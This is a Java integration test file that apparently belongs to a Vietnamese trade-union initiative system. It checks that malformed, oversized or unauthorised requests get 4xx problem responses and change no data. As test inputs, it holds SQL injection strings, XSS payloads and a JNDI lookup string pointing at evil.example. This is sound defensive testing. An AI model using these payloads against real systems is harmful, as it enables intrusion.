package vn.congdoan.sangkien.system;

import static org.assertj.core.api.Assertions.assertThat;

import java.math.BigInteger;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.TimeUnit;
import java.util.function.Consumer;
import java.util.stream.Collectors;
import java.util.stream.Stream;

import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

import com.fasterxml.jackson.databind.JsonNode;

import vn.congdoan.sangkien.localstack.DevTokens;
import vn.congdoan.sangkien.localstack.JavaNames;
import vn.congdoan.sangkien.system.SystemUnderTest.Service;

/**
 * A catalogue of malformed requests across the three services, one row per request: each is answered 4xx with an
 * {@code application/problem+json} document naming what is wrong, in English and again in Vietnamese, never 5xx and
 * never with a Java name, and changes no data — every table of every service's database and the standings are the
 * same after the request as before it. Text that is valid, however hostile it looks, is stored and returned exactly
 * as sent.
 */
class BadInputIT {

    private static final String JSON = "application/json";
    private static final String RANDOM_ID = "6d1f6a52-1b7e-4c58-9f0e-5b7c2c0f4a11";

    private static SystemUnderTest system;
    private static Population.Unit unit;
    private static Population.Unit otherUnit;
    private static String member;
    private static String otherMember;
    private static String unitAdminElsewhere;
    private static UUID draft;
    private static UUID submitted;
    private static UUID withdrawn;
    private static final String USED_KEY = UUID.randomUUID().toString();

    /** One malformed request and what its answer must be. */
    record Row(String name, Service service, String method, String path, String authorization, String contentType,
            byte[] body, Map<String, String> headers, int status, String names) {

        @Override
        public String toString() {
            return name;
        }
    }

    @BeforeAll
    static void start() throws Exception {
        system = SystemUnderTest.start(Dirs.fresh("bad-input"));
        List<Population.Unit> units = Population.create(system, "BAD", List.of("42", "40"));
        unit = units.get(0);
        otherUnit = units.get(1);
        member = Api.bearer("bad-m-1", unit.id().toString(), "MEMBER");
        otherMember = Api.bearer("bad-m-2", otherUnit.id().toString(), "MEMBER");
        unitAdminElsewhere = Api.bearer("bad-admin-40", "40", "UNIT_ADMIN");
        draft = create(member, initiative(b -> b.put("submit", false)), null);
        submitted = create(member, initiative(b -> { }), USED_KEY);
        withdrawn = create(member, initiative(b -> { }), null);
        assertThat(Api.send("POST", system.url(Service.SUBMISSION) + "/api/v1/initiatives/" + withdrawn + "/withdraw",
                member, Map.of(), null).status()).isEqualTo(200);
        awaitQuiet();
    }

    @AfterAll
    static void stop() {
        if (system != null) {
            system.close();
        }
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("catalogue")
    void isRefusedWithAProblemNamingItAndChangesNothing(Row row) throws Exception {
        DataState before = DataState.of(system);
        Map<String, String> headers = new LinkedHashMap<>(row.headers());
        if (row.contentType() != null) {
            headers.put("Content-Type", row.contentType());
        }
        Api.Reply reply = Api.send(row.method(), system.url(row.service()) + row.path(), row.authorization(),
                headers, row.body());
        SystemSummary.BAD_INPUT_ROWS.incrementAndGet();

        assertThat(reply.status()).as("%s: %s", row.name(), reply).isEqualTo(row.status());
        assertThat(reply.isProblem()).as("problem+json: %s", reply).isTrue();
        JsonNode problem = reply.json();
        assertThat(problem.path("status").asInt()).isEqualTo(row.status());
        String named = problem.path("field").asText("") + " " + problem.path("title").asText("") + " "
                + problem.path("detail").asText("");
        assertThat(named).as("the problem names what is wrong").containsIgnoringCase(row.names());
        assertThat(reply.body()).as("no Java name in the answer").doesNotContainPattern(JavaNames.PATTERN);

        headers.put("Accept-Language", "vi");
        Api.Reply vietnamese = Api.send(row.method(), system.url(row.service()) + row.path(), row.authorization(),
                headers, row.body());
        assertThat(vietnamese.status()).as("in Vietnamese: %s", vietnamese).isEqualTo(row.status());
        assertThat(vietnamese.isProblem()).as("problem+json: %s", vietnamese).isTrue();
        assertThat(vietnamese.json().path("type").asText()).isEqualTo(problem.path("type").asText());
        assertThat(vietnamese.body()).as("no Java name in the Vietnamese answer")
                .doesNotContainPattern(JavaNames.PATTERN);
        assertThat(DataState.of(system)).as("no data changed").isEqualTo(before);
    }

    @Test
    void aChunkedBodyOverTheLimitIsRefusedWithAProblemAndAChunkedBodyWithinItIsRead() throws Exception {
        awaitQuiet();
        DataState before = DataState.of(system);
        // a header line each import accepts, then 4,000 rows (fewer than either accepts) of 5,500 bytes: 22 MB
        String text = "x".repeat(5_500);
        Map<String, String> files = Map.of(
                system.url(Service.SUBMISSION) + "/api/v1/initiatives/import?province=42",
                "externalRef,programmeCode,title,field,unitId\n" + ("r,p," + text + ",OTHER,u\n").repeat(4_000),
                system.url(Service.ORG_UNIT) + "/api/v1/units/import?province=42",
                "code,name,parentCode,type\n" + ("c," + text + ",42,GRASSROOTS\n").repeat(4_000));
        for (Map.Entry<String, String> upload : files.entrySet()) {
            String url = upload.getKey();
            byte[] oversize = upload.getValue().getBytes(StandardCharsets.UTF_8);
            Api.Reply reply = Api.postChunked(url, Population.ADMIN, "text/csv", oversize);

            assertThat(reply.status()).as("%s: %s", url, reply).isEqualTo(413);
            assertThat(reply.isProblem()).as("problem+json: %s", reply).isTrue();
            assertThat(reply.json().path("field").asText()).isEqualTo("body");
        }
        assertThat(DataState.of(system)).as("no data changed").isEqualTo(before);

        Api.Reply small = Api.postChunked(system.url(Service.SUBMISSION) + "/api/v1/initiatives",
                member, "application/json", initiative(b -> { }));
        assertThat(small.status()).as("%s", small).isEqualTo(201);
        // its event, outbox row and audit entry land after the answer; the catalogue's rows compare against a still state
        awaitQuiet();
    }

    /**
     * Chunked uploads declare no length. Eight of them near the 20 MB limit at once, more than the import slots: each
     * waits for a slot with its body still unread, so that the service never holds more than its slots' worth of
     * bodies, answers every one, and is ready afterwards. (Read ahead into memory, as they once were, eight such bodies
     * took more than the service's heap, and it spent its time in full collections.)
     */
    @Test
    void concurrentChunkedImportsNearTheLimitAreAllAnsweredAndTheServiceStaysReady() throws Exception {
        int rows = 4_000;
        StringBuilder csv = new StringBuilder("externalRef,programmeCode,title,problem,field,unitId\n");
        for (int i = 0; i < rows; i++) {
            // an unknown unit: every row is read and rejected, nothing is written
            csv.append("big-").append(i).append(",1-trieu-sang-kien,Sáng kiến ").append(i).append(',')
                    .append("Vấn đề ".repeat(400)).append(",OTHER,").append(RANDOM_ID).append('\n');
        }
        byte[] body = csv.toString().getBytes(StandardCharsets.UTF_8);
        assertThat(body.length).as("near the limit").isBetween(18_000_000, 20_971_520);
        String url = system.url(Service.SUBMISSION) + "/api/v1/initiatives/import?province=42";
        ExecutorService uploads = Executors.newFixedThreadPool(8);
        try {
            List<Future<Api.Reply>> replies = new ArrayList<>();
            for (int i = 0; i < 8; i++) {
                replies.add(uploads.submit(() -> Api.postChunked(url, Population.ADMIN, "text/csv", body)));
            }
            for (Future<Api.Reply> reply : replies) {
                Api.Reply answer = reply.get(2, TimeUnit.MINUTES);
                assertThat(answer.status()).as("%s", answer).isEqualTo(200);
                assertThat(answer.json().path("received").asInt()).isEqualTo(rows);
                assertThat(answer.json().path("rejected").asInt()).isEqualTo(rows);
            }
        } finally {
            uploads.shutdownNow();
        }
        assertThat(Api.get(system.url(Service.SUBMISSION) + "/q/health/ready", null).status()).isEqualTo(200);
    }

    @Test
    void hostileLookingTextIsStoredAndReturnedExactlyAsSent() throws Exception {
        String title = "Robert'); DROP TABLE initiative;-- <script>alert('x')</script>";
        String problem = "${jndi:ldap://evil.example/x} {{7*7}} %s%n \\u0000 \" ' ` ; -- /* */ OR 1=1";
        String solution = "Tiếng Việt có dấu: Sáng kiến cải tiến kỹ thuật 🎉 ‮ right-to-left ‬ zero​width";
        UUID id = create(member, initiative(b -> {
            b.put("title", title);
            b.put("problem", problem);
            b.put("solution", solution);
        }), null);
        JsonNode read = Api.get(system.url(Service.SUBMISSION) + "/api/v1/initiatives/" + id, member).json();
        assertThat(read.get("title").asText()).isEqualTo(title);
        assertThat(read.get("problem").asText()).isEqualTo(problem);
        assertThat(read.get("solution").asText()).isEqualTo(solution);

        String name = "Công đoàn <img src=x onerror=alert(1)> '; DROP TABLE org_unit;--";
        Api.Reply unitCreated = Api.postJson(system.url(Service.ORG_UNIT) + "/api/v1/units", Population.ADMIN,
                Map.of("code", "BAD-HOSTILE", "name", name, "type", "GRASSROOTS", "parentId", DevTokens.unitId("42")),
                Map.of());
        assertThat(unitCreated.status()).as("%s", unitCreated).isEqualTo(201);
        assertThat(Api.get(system.url(Service.ORG_UNIT) + "/api/v1/units/by-code/BAD-HOSTILE", Population.ADMIN)
                .json().get("name").asText()).isEqualTo(name);
        awaitQuiet();
    }

    static Stream<Row> catalogue() {
        List<Row> rows = new ArrayList<>();
        String admin = Population.ADMIN;
        String initiatives = "/api/v1/initiatives";

        // submission-service: creating an initiative
        rows.add(post("initiative: body is not JSON", initiatives, admin, raw("{\"title\": "), 400, "JSON"));
        rows.add(post("initiative: empty body", initiatives, admin, raw(""), 400, "must not be null"));
        rows.add(post("initiative: a JSON array instead of an object", initiatives, admin, raw("[]"), 400, "JSON"));
        rows.add(post("initiative: the JSON literal null", initiatives, admin, raw("null"), 400, "must not be null"));
        rows.add(post("initiative: title missing", initiatives, admin, initiative(b -> b.remove("title")), 400,
                "title"));
        rows.add(post("initiative: title blank", initiatives, admin, initiative(b -> b.put("title", "   ")), 400,
                "title"));
        rows.add(post("initiative: title over 300 characters", initiatives, admin,
                initiative(b -> b.put("title", "x".repeat(301))), 400, "title"));
        rows.add(post("initiative: title is an object", initiatives, admin,
                initiative(b -> b.put("title", Map.of("vi", "x"))), 400, "title"));
        rows.add(post("initiative: NUL character in the title", initiatives, admin,
                initiative(b -> b.put("title", "a\u0000b")), 400, "title"));
        rows.add(post("initiative: problem over 20,000 characters", initiatives, admin,
                initiative(b -> b.put("problem", "x".repeat(20_001))), 400, "problem"));
        rows.add(post("initiative: programmeCode over 64 characters", initiatives, admin,
                initiative(b -> b.put("programmeCode", "p".repeat(65))), 400, "programmeCode"));
        rows.add(post("initiative: unknown field (enum) value", initiatives, admin,
                initiative(b -> b.put("field", "ROCKET_SCIENCE")), 400, "field"));
        rows.add(post("initiative: field given as a number", initiatives, admin, initiative(b -> b.put("field", 5)),
                400, "field"));
        rows.add(post("initiative: unknown visibility", initiatives, admin,
                initiative(b -> b.put("visibility", "TOP_SECRET")), 400, "visibility"));
        rows.add(post("initiative: unitId is not a UUID", initiatives, admin,
                initiative(b -> b.put("unitId", "unit-42")), 400, "unitId"));
        rows.add(post("initiative: unitId is an injection string", initiatives, admin,
                initiative(b -> b.put("unitId", "' OR 1=1 --")), 400, "unitId"));
        rows.add(post("initiative: unknown unitId", initiatives, admin, initiative(b -> b.put("unitId", RANDOM_ID)),
                422, "unitId"));
        rows.add(post("initiative: through a provincial federation, not a grassroots union", initiatives, admin,
                initiative(b -> b.put("unitId", DevTokens.unitId("42"))), 422, "unitId"));
        rows.add(post("initiative: no authors", initiatives, admin, initiative(b -> b.put("authors", List.of())),
                400, "authors"));
        rows.add(post("initiative: 21 authors", initiatives, admin, initiative(b -> {
            List<Map<String, String>> many = new ArrayList<>();
            for (int i = 0; i < 21; i++) {
                many.add(Map.of("memberId", "m-" + i, "displayName", "Tác giả " + i));
            }
            b.put("authors", many);
        }), 400, "authors"));
        rows.add(post("initiative: author without memberId", initiatives, admin,
                initiative(b -> b.put("authors", List.of(Map.of("displayName", "Ẩn danh")))), 400,
                "authors[0].memberId"));
        rows.add(post("initiative: authors is a string", initiatives, admin,
                initiative(b -> b.put("authors", "bad-m-1")), 400, "authors"));
        rows.add(post("initiative: submit is 'yes'", initiatives, admin, initiative(b -> b.put("submit", "yes")),
                400, "submit"));
        rows.add(post("initiative: the same key twice in the body", initiatives, admin,
                raw(new String(initiative(b -> { }), StandardCharsets.UTF_8)
                        .replaceFirst("\\{", "{\"title\":\"Hai lần\",")), 400, "title"));
        rows.add(post("initiative: invalid UTF-8 in the title", initiatives, admin,
                invalidUtf8(initiative(b -> b.put("title", "@@@"))), 400, "UTF"));
        rows.add(new Row("initiative: body over the 256 KB limit", Service.SUBMISSION, "POST", initiatives, admin, JSON,
                initiative(b -> b.put("problem", "x".repeat(300 * 1024))), Map.of(), 413, "large"));
        rows.add(new Row("import: body over the 20 MB limit", Service.SUBMISSION, "POST",
                initiatives + "/import?province=42", admin, JSON, ("[\"" + "x".repeat(21 * 1024 * 1024) + "\"]")
                        .getBytes(StandardCharsets.UTF_8), Map.of(), 413, "large"));
        rows.add(post("initiative: a property it does not have", initiatives, member,
                initiative(b -> b.put("titel", "Lỗi chính tả")), 400, "titel"));
        rows.add(post("initiative: without credentials, and invalid", initiatives, null,
                initiative(b -> b.put("field", "ASTROLOGY")), 401, "Unauthorized"));
        rows.add(new Row("initiative: text/plain content type", Service.SUBMISSION, "POST", initiatives, admin,
                "text/plain", initiative(b -> { }), Map.of(), 415, "media type"));
        rows.add(new Row("initiative: XML body", Service.SUBMISSION, "POST", initiatives, admin, "application/xml",
                raw("<initiative><title>x</title></initiative>"), Map.of(), 415, "media type"));
        rows.add(post("initiative: without credentials", initiatives, null, initiative(b -> { }), 401, "Unauthorized"));
        rows.add(post("initiative: a bearer token that is not a token", initiatives, "Bearer not.a.token",
                initiative(b -> { }), 401, "Unauthorized"));
        rows.add(post("initiative: an expired token", initiatives, "Bearer " + DevTokens.token(DevTokens.ISSUER,
                "bad-m-1", unit.id().toString(), Instant.now().minusSeconds(60), DevTokens.developmentKey(),
                "MEMBER"), initiative(b -> { }), 401, "Unauthorized"));
        rows.add(post("initiative: a member submits through another province's union", initiatives, otherMember,
                initiative(b -> { }), 403, "Forbidden"));
        rows.add(post("initiative: the submitting member is not an author", initiatives, member,
                initiative(b -> b.put("authors", List.of(Map.of("memberId", "someone-else", "displayName", "X")))),
                422, "authors"));
        rows.add(new Row("initiative: Idempotency-Key of 201 characters", Service.SUBMISSION, "POST", initiatives,
                member, JSON, initiative(b -> { }), Map.of("Idempotency-Key", "k".repeat(201)), 400,
                "Idempotency-Key"));
        rows.add(new Row("initiative: Idempotency-Key reused for a different request", Service.SUBMISSION, "POST",
                initiatives, member, JSON, initiative(b -> b.put("title", "Một sáng kiến khác")),
                Map.of("Idempotency-Key", USED_KEY), 422, "Idempotency-Key"));

        // submission-service: reading and changing initiatives
        rows.add(get("initiative: id is not a UUID", Service.SUBMISSION, initiatives + "/not-a-uuid", member, 404,
                "not-a-uuid"));
        rows.add(get("initiatives: author with a NUL character", Service.SUBMISSION, initiatives + "?author=a%00b",
                member, 400, "author"));
        rows.add(get("initiatives: submittedFrom beyond four-digit years", Service.SUBMISSION,
                initiatives + "?submittedFrom=-999999999-01-01", member, 400, "submittedFrom"));
        rows.add(get("initiative: unknown id", Service.SUBMISSION, initiatives + "/" + RANDOM_ID, member, 404,
                RANDOM_ID));
        rows.add(action("submit: unknown id", initiatives + "/" + RANDOM_ID + "/submit", member, 404, RANDOM_ID));
        rows.add(action("withdraw: unknown id", initiatives + "/" + RANDOM_ID + "/withdraw", member, 404, RANDOM_ID));
        rows.add(action("withdraw: a draft", initiatives + "/" + draft + "/withdraw", member, 409, "status"));
        rows.add(action("submit: already submitted", initiatives + "/" + submitted + "/submit", member, 409,
                "status"));
        rows.add(action("submit: a withdrawn initiative", initiatives + "/" + withdrawn + "/submit", member, 409,
                "status"));
        rows.add(action("withdraw: already withdrawn", initiatives + "/" + withdrawn + "/withdraw", member, 409,
                "status"));
        rows.add(action("withdraw: by a member who is not an author", initiatives + "/" + submitted + "/withdraw",
                otherMember, 403, "author"));
        rows.add(get("audit: page size of 100,000", Service.SUBMISSION, "/api/v1/audit?limit=100000", admin, 400,
                "limit"));
        rows.add(get("audit: negative page size", Service.SUBMISSION, "/api/v1/audit?limit=-1", admin, 400, "limit"));
        rows.add(get("audit: 'before' is not a number", Service.SUBMISSION, "/api/v1/audit?before=yesterday", admin,
                400, "before"));
        rows.add(get("audit: by a member", Service.SUBMISSION, "/api/v1/audit", member, 403, "Forbidden"));

        // org-unit-service
        String units = "/api/v1/units";
        String haTinh = DevTokens.unitId("42");
        rows.add(unit("unit: code is an injection string", admin,
                newUnit(b -> b.put("code", "x'; DROP TABLE org_unit;--")), 400, "code"));
        rows.add(unit("unit: code over 64 characters", admin, newUnit(b -> b.put("code", "C".repeat(65))), 400,
                "code"));
        rows.add(unit("unit: name missing", admin, newUnit(b -> b.remove("name")), 400, "name"));
        rows.add(unit("unit: unknown type", admin, newUnit(b -> b.put("type", "CITY")), 400, "type"));
        rows.add(unit("unit: parentId is not a UUID", admin, newUnit(b -> b.put("parentId", "42")), 400,
                "parentId"));
        rows.add(unit("unit: unknown parent", admin, newUnit(b -> b.put("parentId", RANDOM_ID)), 422, "parentId"));
        rows.add(unit("unit: negative member count", admin, newUnit(b -> b.put("memberCount", -5)), 400,
                "memberCount"));
        rows.add(unit("unit: member count is a word", admin, newUnit(b -> b.put("memberCount", "many")), 400,
                "memberCount"));
        rows.add(unit("unit: member count beyond any integer", admin,
                newUnit(b -> b.put("memberCount", new BigInteger("99999999999999999999"))), 400,
                "memberCount"));
        rows.add(unit("unit: impossible date", admin, newUnit(b -> b.put("validFrom", "2022-13-45")), 400,
                "validFrom"));
        rows.add(unit("unit: a code that exists (Hà Tĩnh's)", admin, newUnit(b -> b.put("code", "42")), 409,
                "code"));
        rows.add(unit("unit: by a member", member, newUnit(b -> { }), 403, "Forbidden"));
        rows.add(unit("unit: by another province's administrator", unitAdminElsewhere, newUnit(b -> { }), 403,
                "Forbidden"));
        rows.add(new Row("unit: text/plain content type", Service.ORG_UNIT, "POST", units, admin, "text/plain",
                newUnit(b -> { }), Map.of(), 415, "media type"));
        rows.add(get("units: without credentials", Service.ORG_UNIT, units, null, 401, "Unauthorized"));
        rows.add(get("units: page size of 100,000", Service.ORG_UNIT, units + "?limit=100000", admin, 400, "limit"));
        rows.add(get("units: page size of -1", Service.ORG_UNIT, units + "?limit=-1", admin, 400, "limit"));
        rows.add(get("units: page size is a word", Service.ORG_UNIT, units + "?limit=ten", admin, 400, "limit"));
        rows.add(get("units: search text with a NUL character", Service.ORG_UNIT, units + "?q=a%00b", admin, 400,
                "NUL"));
        rows.add(get("units: asOf beyond four-digit years", Service.ORG_UNIT, units + "?asOf=-5000-01-01", admin, 400,
                "asOf"));
        rows.add(get("units: a cursor that decodes to a NUL character", Service.ORG_UNIT, units + "?cursor=AA", admin,
                400, "cursor"));
        rows.add(get("units: unknown type", Service.ORG_UNIT, units + "?type=CITY", admin, 400, "type"));
        rows.add(get("units: parentId is an injection string", Service.ORG_UNIT,
                units + "?parentId=" + enc("' OR 1=1 --"), admin, 400, "parentId"));
        rows.add(get("units: impossible asOf date", Service.ORG_UNIT, units + "?asOf=2022-02-30", admin, 400,
                "asOf"));
        rows.add(get("units: a cursor this API never returned", Service.ORG_UNIT, units + "?cursor=" + enc("***"),
                admin, 400, "cursor"));
        rows.add(get("unit: unknown id", Service.ORG_UNIT, units + "/" + RANDOM_ID, admin, 404, RANDOM_ID));
        rows.add(get("unit: code is an injection string", Service.ORG_UNIT,
                units + "/by-code/" + enc("' OR '1'='1"), admin, 404, "Unit"));
        rows.add(get("unit: children page size of 0", Service.ORG_UNIT, units + "/" + haTinh + "/children?limit=0",
                admin, 400, "limit"));
        rows.add(new Row("unit: rename without If-Match", Service.ORG_UNIT, "PUT", units + "/" + unit.id(), admin,
                JSON, json(Map.of("name", "Tên mới")), Map.of(), 428, "If-Match"));
        rows.add(new Row("unit: rename with an If-Match this API never sent", Service.ORG_UNIT, "PUT",
                units + "/" + unit.id(), admin, JSON, json(Map.of("name", "Tên mới")), Map.of("If-Match", "abc"),
                400, "If-Match"));
        rows.add(new Row("unit: rename with a stale If-Match", Service.ORG_UNIT, "PUT", units + "/" + unit.id(), admin,
                JSON, json(Map.of("name", "Tên mới")), Map.of("If-Match", "\"999\""), 412, "If-Match"));
        rows.add(new Row("unit: negative member count on update", Service.ORG_UNIT, "PUT", units + "/" + unit.id(),
                admin, JSON, json(Map.of("memberCount", -1)), Map.of("If-Match", "\"0\""), 400, "memberCount"));
        rows.add(new Row("units: merge by a unit administrator", Service.ORG_UNIT, "POST", units + "/merge",
                unitAdminElsewhere, JSON, json(Map.of("sources", List.of(DevTokens.unitId("44")),
                        "successorId", DevTokens.unitId("45"), "date", "2025-07-01")), Map.of(), 403, "Forbidden"));

        String memberCount = units + "/" + unit.id() + "/member-count";
        rows.add(new Row("member count: without If-Match", Service.ORG_UNIT, "PUT", memberCount, admin, JSON,
                json(Map.of("memberCount", 120)), Map.of(), 428, "If-Match"));
        rows.add(new Row("member count: negative", Service.ORG_UNIT, "PUT", memberCount, admin, JSON,
                json(Map.of("memberCount", -3)), Map.of("If-Match", "\"0\""), 400, "memberCount"));
        rows.add(new Row("member count: by a member of the unit", Service.ORG_UNIT, "PUT", memberCount, member, JSON,
                json(Map.of("memberCount", 120)), Map.of("If-Match", "\"0\""), 403, "Forbidden"));
        String unitTargets = "/api/v1/programmes/1-trieu-sang-kien/phases/phase-1/units/" + haTinh + "/targets";
        rows.add(new Row("unit targets: negative target", Service.ORG_UNIT, "PUT", unitTargets, admin, JSON,
                json(List.of(Map.of("unitId", unit.id().toString(), "target", -1))), Map.of(), 400, "[0].target"));
        rows.add(new Row("unit targets: a unit of another province", Service.ORG_UNIT, "PUT", unitTargets, admin,
                JSON, json(List.of(Map.of("unitId", otherUnit.id().toString(), "target", 10))), Map.of(), 422,
                "[0].unitId"));
        rows.add(new Row("unit targets: by another province's administrator", Service.ORG_UNIT, "PUT", unitTargets,
                unitAdminElsewhere, JSON, json(List.of(Map.of("unitId", unit.id().toString(), "target", 10))),
                Map.of(), 403, "Forbidden"));
        rows.add(new Row("unit targets: CSV without its header", Service.ORG_UNIT, "PUT", unitTargets, admin,
                "text/csv", raw(unit.code() + ",10\n"), Map.of(), 400, "unitCode"));
        rows.add(get("unit targets: unknown phase", Service.ORG_UNIT,
                "/api/v1/programmes/1-trieu-sang-kien/phases/phase-9/units/" + haTinh + "/targets", admin, 404,
                "phase-9"));

        // ranking-service
        rows.add(get("standings: unknown sort", Service.RANKING, "/api/v1/standings?sort=bogus", null, 400, "sort"));
        rows.add(get("standings: date is a word", Service.RANKING, "/api/v1/standings?date=yesterday", null, 400,
                "date"));
        rows.add(get("standings: impossible date", Service.RANKING, "/api/v1/standings?date=2022-02-30", null, 400,
                "date"));
        rows.add(get("standings: blank programme", Service.RANKING, "/api/v1/standings?programme=%20%20", null, 400,
                "programme"));
        rows.add(get("standings: region is a script tag", Service.RANKING,
                "/api/v1/standings?region=" + enc("<script>alert(1)</script>"), null, 400, "region"));
        rows.add(get("standings: date beyond four-digit years", Service.RANKING, "/api/v1/standings?date=-5000-01-01",
                null, 400, "date"));
        rows.add(get("standings: region with a NUL character", Service.RANKING, "/api/v1/standings?region=a%00",
                null, 400, "region"));
        rows.add(get("standings: unknown province", Service.RANKING, "/api/v1/standings/99", null, 404, "99"));
        rows.add(get("standings: history from a word", Service.RANKING, "/api/v1/standings/40/history?from=bad", null,
                400, "from"));
        rows.add(get("programme: unknown code", Service.RANKING, "/api/v1/programmes/nope/summary", null, 404,
                "nope"));
        String expired = "Bearer " + DevTokens.token(DevTokens.ISSUER, "bad-m-1", unit.id().toString(),
                Instant.now().minusSeconds(60), DevTokens.developmentKey(), "MEMBER");
        rows.add(get("standings (public): an expired token", Service.RANKING, "/api/v1/standings", expired, 401,
                "Unauthorized"));
        rows.add(get("initiatives list (public): a bearer token that is not a token", Service.SUBMISSION,
                "/api/v1/initiatives", "Bearer not.a.token", 401, "Unauthorized"));
        rows.add(get("groupings (public): an unknown API key", Service.ORG_UNIT, "/api/v1/groupings",
                "ApiKey sk_unknown", 401, "Unauthorized"));
        rows.add(new Row("snapshot: without credentials", Service.RANKING, "POST", "/api/v1/admin/snapshots", null,
                null, null, Map.of(), 401, "Unauthorized"));
        rows.add(new Row("snapshot: impossible date", Service.RANKING, "POST",
                "/api/v1/admin/snapshots?date=2022-02-30", admin, null, null, Map.of(), 400, "date"));
        rows.add(new Row("rebuild: by a member", Service.RANKING, "POST", "/api/v1/admin/rebuild", member, null, null,
                Map.of(), 403, "Forbidden"));
        String below = "/api/v1/standings/units/" + DevTokens.unitId("42");
        rows.add(get("unit standings: anonymous, below a province", Service.RANKING, below, null, 401,
                "Unauthorized"));
        rows.add(get("unit standings: a member of another province", Service.RANKING, below, otherMember, 403,
                "Forbidden"));
        rows.add(get("unit standings: unknown level", Service.RANKING, below + "?level=DISTRICT", member, 400,
                "level"));
        rows.add(get("unit standings: a cursor it did not give", Service.RANKING, below + "?cursor=bm9wZQ", member,
                400, "cursor"));
        rows.add(get("unit standings: page size of 100,000", Service.RANKING, below + "?limit=100000", member, 400,
                "limit"));
        rows.add(get("unit standings: asOf in the year 3000", Service.RANKING, below + "?asOf=3000-01-01", member,
                400, "asOf"));
        rows.add(get("unit standings: unknown unit", Service.RANKING, "/api/v1/standings/units/no-such-unit", member,
                404, "no-such-unit"));
        rows.add(get("breakdown: by a block", Service.RANKING, below + "/breakdown?by=BLOCK", null, 400, "by"));
        rows.add(get("breakdown: ends before it begins", Service.RANKING,
                below + "/breakdown?by=FIELD&from=2022-04-15&to=2022-04-01", null, 400, "from"));
        rows.add(get("report: as a PDF", Service.RANKING, below + "/report?format=pdf", member, 400, "format"));
        rows.add(get("report: impossible date", Service.RANKING, below + "/report?to=2022-02-30", member, 400, "to"));
        rows.add(new Row("unit figures' visibility: body is not JSON", Service.RANKING, "PUT", below + "/visibility",
                admin, "application/json", raw("{\"figuresPublic\": "), Map.of(), 400, "JSON"));
        rows.add(new Row("unit figures' visibility: by a member", Service.RANKING, "PUT", below + "/visibility",
                member, "application/json", raw("{\"figuresPublic\": true}"), Map.of(), 403, "Forbidden"));
        rows.add(get("audit: page size of 100,000 (ranking)", Service.RANKING, "/api/v1/audit?limit=100000", admin,
                400, "limit"));
        rows.add(get("audit: page size of 100,000 (org units)", Service.ORG_UNIT, "/api/v1/audit?limit=100000", admin,
                400, "limit"));
        return rows.stream();
    }

    private static Row post(String name, String path, String authorization, byte[] body, int status, String names) {
        return new Row(name, Service.SUBMISSION, "POST", path, authorization, JSON, body, Map.of(), status, names);
    }

    private static Row action(String name, String path, String authorization, int status, String names) {
        return new Row(name, Service.SUBMISSION, "POST", path, authorization, null, null, Map.of(), status, names);
    }

    private static Row unit(String name, String authorization, byte[] body, int status, String names) {
        return new Row(name, Service.ORG_UNIT, "POST", "/api/v1/units", authorization, JSON, body, Map.of(), status,
                names);
    }

    private static Row get(String name, Service service, String path, String authorization, int status,
            String names) {
        return new Row(name, service, "GET", path, authorization, null, null, Map.of(), status, names);
    }

    /** A valid initiative of {@code unit} by bad-m-1, changed by {@code change}. */
    private static byte[] initiative(Consumer<Map<String, Object>> change) {
        Map<String, Object> body = Api.initiative(unit.id().toString(), "bad-m-1", "Giảm hao hụt nguyên liệu");
        body.put("field", "PRODUCTION_TECHNICAL");
        body.put("authors", List.of(Map.of("memberId", "bad-m-1", "displayName", "Nguyễn Thị Lan")));
        change.accept(body);
        return json(body);
    }

    private static byte[] newUnit(Consumer<Map<String, Object>> change) {
        Map<String, Object> body = new LinkedHashMap<>();
        body.put("code", "BAD-NEW");
        body.put("name", "Công đoàn cơ sở mới");
        body.put("type", "GRASSROOTS");
        body.put("parentId", DevTokens.unitId("42"));
        change.accept(body);
        return json(body);
    }

    private static byte[] json(Object body) {
        try {
            return Api.JSON.writeValueAsBytes(body);
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    private static byte[] raw(String body) {
        return body.getBytes(StandardCharsets.UTF_8);
    }

    /** Replaces the "@@@" placeholder with a byte sequence that is not UTF-8 (a lead byte without its follower). */
    private static byte[] invalidUtf8(byte[] body) {
        String text = new String(body, StandardCharsets.ISO_8859_1);
        return text.replace("@@@", "a\u00c3(b").getBytes(StandardCharsets.ISO_8859_1);
    }

    private static String enc(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8);
    }

    private static UUID create(String token, byte[] body, String key) throws Exception {
        Map<String, String> headers = new LinkedHashMap<>();
        headers.put("Content-Type", JSON);
        if (key != null) {
            headers.put("Idempotency-Key", key);
        }
        Api.Reply created = Api.send("POST", system.url(Service.SUBMISSION) + "/api/v1/initiatives", token, headers,
                body);
        assertThat(created.status()).as("%s", created).isEqualTo(201);
        return UUID.fromString(created.json().get("id").asText());
    }

    /** Waits until the standings show what the database holds and the audit is written: nothing is on its way. */
    private static void awaitQuiet() throws Exception {
        Instant deadline = Instant.now().plus(Duration.ofSeconds(60));
        while (!GroundTruth.truth(system).equals(GroundTruth.standings(system).entrySet().stream()
                .filter(e -> e.getValue().submissions() != 0 || e.getValue().submitters() != 0)
                .collect(Collectors.toMap(Map.Entry::getKey, Map.Entry::getValue)))) {
            assertThat(Instant.now()).as("the standings catch up").isBefore(deadline);
            Thread.sleep(200);
        }
        // the audit entries of writes that changed nothing reach their table up to 200 ms after the answers (AuditLog)
        Thread.sleep(500);
    }
}
